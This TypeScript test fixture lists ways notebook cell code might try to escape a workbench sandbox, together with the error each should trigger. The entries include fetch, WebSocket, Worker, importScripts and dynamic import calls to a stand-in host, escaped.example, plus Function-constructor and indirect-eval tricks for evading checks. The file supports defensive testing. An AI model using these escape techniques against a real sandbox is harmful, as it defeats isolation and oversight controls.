/**
 * What notebook code may try to get out of its cell, written as a stranger would write it, and what
 * the workbench says of it. `test/kernel/escapes.ts` has the ways around the checks of a notebook.
 */
import { cellText } from "./open-workbench.js";

/** An attempt. */
export interface Attempt {
  /** Name of its cell. */
  readonly name: string;
  readonly code: string;
  /** A part of the problem that its cell ends with. */
  readonly says: string;
}

const address = "https://escaped.example/";

/** One for every way out that a worker has. */
export const attempts: readonly Attempt[] = [
  { name: "fetch", code: `await fetch("${address}");`, says: "fetch" },
  { name: "request", code: "new XMLHttpRequest();", says: "XMLHttpRequest" },
  { name: "socket", code: `new WebSocket("wss://escaped.example/");`, says: "WebSocket" },
  { name: "scripts", code: `importScripts("${address}x.js");`, says: "importScripts" },
  { name: "database", code: `indexedDB.open("escaped");`, says: "indexedDB" },
  { name: "worker", code: `new Worker("${address}x.js");`, says: "Worker" },
  { name: "module", code: `await import("${address}x.js");`, says: "import() cannot be used" },
  { name: "function", code: `Function("return fetch('${address}')")();`, says: "Function" },
  {
    name: "constructor",
    code: `(function () {}).constructor("return fetch('${address}')")();`,
    says: "text",
  },
  { name: "text", code: `(0, eval)("fetch('${address}')");`, says: "text" },
  {
    name: "inherited",
    code: `(globalThis as any).fetch("${address}");`,
    says: "fetch is not a function",
  },
];

/** Each attempt in a cell, and a cell that is to be run after all of them. */
export const attemptsNotebook = [
  "# Attempts\n\n",
  ...attempts.map(({ name, code }) => cellText(name, code)),
  cellText("after", '"still here"'),
].join("");
